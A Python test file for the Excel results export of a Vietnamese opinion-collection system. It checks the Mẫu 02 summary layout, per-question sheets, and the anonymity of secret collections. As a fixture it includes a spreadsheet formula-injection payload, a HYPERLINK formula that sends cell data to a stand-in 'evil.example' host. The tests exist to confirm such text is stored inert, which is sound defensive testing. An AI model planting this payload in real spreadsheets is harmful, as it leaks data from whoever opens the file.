"""The Excel workbook of an opinion collection (Điều 7.3): the Mẫu 02 summary cell by cell, a
sheet per question for named collections, none for secret ones and no name anywhere in them, and
voters' texts never turned into formulas. Built from hand-made results: no database."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from opinions.export import results_workbook
from opinions.results import AnswerRow, CollectionResults, QuestionResults

RELEASE = datetime(2026, 12, 1, 1, 0, tzinfo=UTC)  # 08:00 in Việt Nam
ANSWERED = datetime(2026, 12, 1, 2, 30, tzinfo=UTC)  # 09:30
LATER = datetime(2026, 12, 3, 17, 45, tzinfo=UTC)  # 00:45 on 04/12 in Việt Nam
EXPIRES = datetime(2026, 12, 8, 10, 0, tzinfo=UTC)  # 17:00
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
HASH = "ab" * 32
RECOMMENDATION = "Trình UBND tỉnh ban hành Quy chế."
NAMES = ("Phan Thị Một", "Đào Văn Thư", "Hà Văn Lặng")

# Summary sheet: title block in rows 1-5, the two header rows 7-8, one row per question from 9.
HEADER, SUB, FIRST = 7, 8, 9


def named_rows(question: int) -> list[AnswerRow]:
    """Phan Thị Một answers herself and signs; Đào Văn Thư, the document receiver of Sở Tài
    chính, answers on the unit's behalf without a signature yet; Hà Văn Lặng never answers."""
    if question == 1:
        personal = AnswerRow("Phan Thị Một", "Chuyên viên", "Sở Nội vụ", "", "Đồng ý", "", ANSWERED, "signed", False)
        unit = AnswerRow(
            "Đào Văn Thư", "Văn thư", "Sở Tài chính", "Sở Tài chính", "Ý kiến khác", FORMULA, LATER, "unsigned", False
        )
    else:
        personal = AnswerRow(
            "Phan Thị Một", "Chuyên viên", "Sở Nội vụ", "", "Không đồng ý", "", ANSWERED, "not_required", False
        )
        unit = AnswerRow("Đào Văn Thư", "Văn thư", "Sở Tài chính", "Sở Tài chính", "Đồng ý", "", LATER, "signed", False)
    silent = AnswerRow("Hà Văn Lặng", "Chuyên viên", "Sở Nội vụ", "", "", "", None, "", True)
    return [personal, unit, silent]


def make_results(*, secret: bool = False, **changes: object) -> CollectionResults:
    questions = [
        QuestionResults(
            number=1,
            text="Đồng ý thông qua dự thảo Quy chế?",
            agree_explicit=1,
            agree_implied=1,
            disagree=0,
            other=1,
            others=[("" if secret else "Đào Văn Thư", FORMULA)],
            rows=[] if secret else named_rows(1),
        ),
        QuestionResults(
            number=2,
            text="Đồng ý thời điểm áp dụng từ 01/01/2027?",
            agree_explicit=1,
            agree_implied=1,
            disagree=1,
            other=0,
            others=[],
            rows=[] if secret else named_rows(2),
        ),
    ]
    results = CollectionResults(
        id=7,
        title="Lấy ý kiến dự thảo Quy chế làm việc",
        unit="Sở Nội vụ",
        creator="Lê Văn Tổng",
        is_secret=secret,
        requires_signature=True,
        release_at=RELEASE,
        expires_at=EXPIRES,
        closed=True,
        consulted=3,
        answered=2,
        questions=questions,
        final_hash=HASH,
        recommendation=RECOMMENDATION,
    )
    return replace(results, **changes)  # type: ignore[arg-type]


def load(results: CollectionResults) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(results_workbook(results)))


def row_values(ws: Worksheet, row: int, first: int, last: int) -> list[object]:
    return [ws.cell(row=row, column=c).value for c in range(first, last + 1)]


def merged(ws: Worksheet) -> set[str]:
    return {str(r) for r in ws.merged_cells.ranges}


def all_texts(wb: openpyxl.Workbook) -> list[str]:
    return [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


# Tổng hợp (Mẫu số 02)


def test_summary_opens_with_the_form_title_in_bold_caps_the_collection_the_unit_and_local_times() -> None:
    ws = load(make_results())["Tổng hợp"]
    assert ws["A1"].value == "Mẫu số 02"
    title = ws["A2"]
    assert title.value == "BÁO CÁO THỐNG KÊ TÌNH HÌNH THỰC HIỆN BIỂU QUYẾT/LẤY Ý KIẾN GÓP Ý TRÊN HỆ THỐNG ECABINET"
    assert title.value == title.value.upper() and title.font.b
    assert ws["A3"].value == "Lấy ý kiến dự thảo Quy chế làm việc"
    assert ws["A4"].value == "Đơn vị: Sở Nội vụ"
    assert ws["A5"].value == "Thời gian phát hành: 01/12/2026 08:00 — Thời gian hết hạn: 08/12/2026 17:00"
    assert {"A2:J2", "A3:J3", "A4:J4", "A5:J5"} <= merged(ws)


def test_summary_header_has_two_rows_with_ket_qua_merged_over_its_sub_columns() -> None:
    ws = load(make_results())["Tổng hợp"]
    assert row_values(ws, HEADER, 1, 4) == [
        "STT",
        "Nội dung xin ý kiến góp ý",
        "Số lượng người được xin ý kiến góp ý trên Hệ thống",
        "Số lượng người gửi ý kiến góp ý trên Hệ thống",
    ]
    assert ws["E7"].value == "Kết quả"
    assert row_values(ws, SUB, 5, 9) == [
        "Đồng ý",
        "Đồng ý — trả lời",
        "Đồng ý — mặc nhiên (không trả lời, Điều 7.2b)",
        "Không đồng ý",
        "Ý kiến khác",
    ]
    assert ws["J7"].value == "Kiến nghị đề xuất (nếu có)"
    assert {"A7:A8", "B7:B8", "C7:C8", "D7:D8", "E7:I7", "J7:J8"} <= merged(ws)
    labelled = [c for row in ws.iter_rows(min_row=HEADER, max_row=SUB, max_col=10) for c in row if c.value]
    assert len(labelled) == 11
    for cell in labelled:
        assert cell.font.b and cell.font.name == "Times New Roman" and cell.alignment.wrap_text
        sides = (cell.border.left, cell.border.right, cell.border.top, cell.border.bottom)
        assert all(side.style == "thin" for side in sides)


def test_summary_has_a_row_per_question_with_agreement_as_explicit_plus_implied() -> None:
    ws = load(make_results())["Tổng hợp"]
    #                                 STT  content                               consulted answered agree explicit implied disagree other
    assert row_values(ws, FIRST, 1, 9) == [1, "Đồng ý thông qua dự thảo Quy chế?", 3, 2, 2, 1, 1, 0, 1]
    assert row_values(ws, FIRST + 1, 1, 9) == [2, "Đồng ý thời điểm áp dụng từ 01/01/2027?", 3, 2, 2, 1, 1, 1, 0]
    assert ws.cell(row=FIRST + 2, column=1).value is None  # no third question


def test_summary_counts_are_number_cells_not_text() -> None:
    ws = load(make_results())["Tổng hợp"]
    for column in (1, 3, 4, 5, 6, 7, 8, 9):
        cell = ws.cell(row=FIRST, column=column)
        assert cell.data_type == "n" and type(cell.value) is int


def test_recommendation_fills_the_last_column_merged_over_all_question_rows() -> None:
    ws = load(make_results())["Tổng hợp"]
    assert ws["J9"].value == RECOMMENDATION
    assert "J9:J10" in merged(ws)


def test_final_hash_line_follows_the_table_when_the_log_is_closed() -> None:
    ws = load(make_results())["Tổng hợp"]
    assert ws.cell(row=FIRST + 3, column=1).value == f"Mã băm cuối của nhật ký phiếu: {HASH}"
    unsealed = all_texts(load(make_results(final_hash="", closed=False)))
    assert not any("Mã băm" in t for t in unsealed)
    assert "Chưa hết hạn: người chưa trả lời chưa được tính đồng ý mặc nhiên." in unsealed


def test_summary_freezes_the_header_and_prints_on_a4_landscape() -> None:
    ws = load(make_results())["Tổng hợp"]
    assert ws.freeze_panes == "A9"
    assert ws.page_setup.orientation == "landscape" and str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.print_title_rows == "$7:$8"
    assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width


# One sheet per question (named collections)


def test_named_collection_has_a_sheet_per_question_and_one_for_the_other_opinions() -> None:
    wb = load(make_results())
    assert wb.sheetnames == ["Tổng hợp", "Câu 1", "Câu 2", "Ý kiến khác"]


def test_question_sheet_lists_every_consulted_person_or_unit_with_the_columns_of_the_form() -> None:
    ws = load(make_results())["Câu 1"]
    assert ws["A1"].value == "Câu 1: Đồng ý thông qua dự thảo Quy chế?"
    assert row_values(ws, 3, 1, 9) == [
        "STT",
        "Họ và tên",
        "Chức vụ",
        "Đơn vị",
        "Thay mặt đơn vị",
        "Lựa chọn",
        "Ý kiến khác",
        "Thời gian trả lời",
        "Chữ ký số",
    ]
    assert row_values(ws, 4, 1, 6) == [1, "Phan Thị Một", "Chuyên viên", "Sở Nội vụ", None, "Đồng ý"]
    assert row_values(ws, 5, 1, 7) == [
        2,
        "Đào Văn Thư",
        "Văn thư",
        "Sở Tài chính",
        "Sở Tài chính",
        "Ý kiến khác",
        FORMULA,
    ]
    assert ws.cell(row=7, column=1).value is None  # three rows, no more
    assert ws.freeze_panes == "A4" and ws.page_setup.orientation == "landscape"
    assert ws["B4"].font.name == "Times New Roman" and ws["B3"].font.b and ws["G5"].alignment.wrap_text


def test_implied_row_reads_agreed_by_default_with_no_time_and_no_signature() -> None:
    ws = load(make_results())["Câu 1"]
    assert row_values(ws, 6, 1, 9) == [
        3,
        "Hà Văn Lặng",
        "Chuyên viên",
        "Sở Nội vụ",
        None,
        "Đồng ý (mặc nhiên)",
        None,
        None,
        None,
    ]


def test_signature_column_reads_signed_awaiting_or_not_required() -> None:
    wb = load(make_results())
    assert [wb["Câu 1"].cell(row=r, column=9).value for r in (4, 5)] == ["Đã ký", "Chưa ký"]
    assert [wb["Câu 2"].cell(row=r, column=9).value for r in (4, 5)] == ["Không yêu cầu", "Đã ký"]
    assert wb["Câu 2"]["F4"].value == "Không đồng ý"


def test_answer_times_are_excel_datetimes_in_vietnam_local_time() -> None:
    ws = load(make_results())["Câu 1"]
    first, late = ws["H4"], ws["H5"]
    assert first.is_date and first.value == datetime(2026, 12, 1, 9, 30)
    assert late.value == datetime(2026, 12, 4, 0, 45)  # past midnight in Việt Nam
    assert first.number_format == late.number_format == "dd/mm/yyyy hh:mm"


def test_other_opinions_sheet_lists_each_text_with_its_question_and_author() -> None:
    ws = load(make_results())["Ý kiến khác"]
    assert row_values(ws, 3, 1, 4) == ["STT", "Câu", "Họ và tên", "Ý kiến khác"]
    assert row_values(ws, 4, 1, 4) == [1, 1, "Đào Văn Thư", FORMULA]
    assert ws.cell(row=5, column=1).value is None


# Voters' texts are never formulas


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(1,2)", "=1+1"])
def test_a_voters_text_that_looks_like_a_formula_is_stored_as_quoted_text(text: str) -> None:
    rows = [replace(named_rows(1)[1], other_text=text)]
    question = QuestionResults(1, "Câu hỏi", 0, 0, 0, 1, [("Đào Văn Thư", text)], rows)
    data = results_workbook(make_results(questions=[question]))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for cell in (wb["Câu 1"]["G4"], wb["Ý kiến khác"]["D4"]):
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_a_title_or_recommendation_that_looks_like_a_formula_is_text_too() -> None:
    ws = load(make_results(title="=1+1", recommendation="-bỏ mục 3"))["Tổng hợp"]
    assert ws["A3"].value == "=1+1" and ws["A3"].data_type == "s"
    assert ws["J9"].value == "-bỏ mục 3" and ws["J9"].data_type == "s"


def test_control_characters_in_a_voters_text_are_dropped_not_fatal() -> None:
    rows = [replace(named_rows(1)[1], other_text="Ý kiến\x07 có\x00 ký tự lạ")]
    question = QuestionResults(1, "Câu hỏi", 0, 0, 0, 1, [("Đào Văn Thư", "Ý kiến\x07 có\x00 ký tự lạ")], rows)
    ws = load(make_results(questions=[question]))["Câu 1"]
    assert ws["G4"].value == "Ý kiến có ký tự lạ"


# Secret collections


def test_secret_collection_has_no_per_person_sheet_and_no_name_anywhere() -> None:
    data = results_workbook(make_results(secret=True))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Tổng hợp", "Ý kiến khác"]
    texts = all_texts(wb)
    assert "Lấy ý kiến kín: không ghi tên người trả lời." in texts
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))
    for name in NAMES:
        assert not any(name in t for t in texts)
        assert name not in xml


def test_secret_collection_lists_the_other_texts_without_a_name_column() -> None:
    wb = load(make_results(secret=True))
    ws = wb["Ý kiến khác"]
    assert row_values(ws, 3, 1, 4) == ["STT", "Câu", "Ý kiến khác", None]
    assert row_values(ws, 4, 1, 3) == [1, 1, FORMULA]
    summary = wb["Tổng hợp"]
    assert row_values(summary, FIRST, 1, 9) == [1, "Đồng ý thông qua dự thảo Quy chế?", 3, 2, 2, 1, 1, 0, 1]


def test_secret_collection_writes_no_name_even_if_the_results_carry_some() -> None:
    leaky = make_results(secret=False)
    wb = load(replace(leaky, is_secret=True))
    assert wb.sheetnames == ["Tổng hợp", "Ý kiến khác"]
    texts = all_texts(wb)
    for name in NAMES:
        assert not any(name in t for t in texts)


# Sheet names


def test_sheet_names_are_unique_and_at_most_31_characters() -> None:
    questions = [QuestionResults(n, f"Câu hỏi {n}", 1, 0, 0, 0, [], named_rows(1)) for n in range(1, 13)]
    wb = load(make_results(questions=questions))
    assert wb.sheetnames == ["Tổng hợp", *(f"Câu {n}" for n in range(1, 13))]
    assert len(wb.sheetnames) == len({n.casefold() for n in wb.sheetnames})
    assert all(len(n) <= 31 for n in wb.sheetnames)
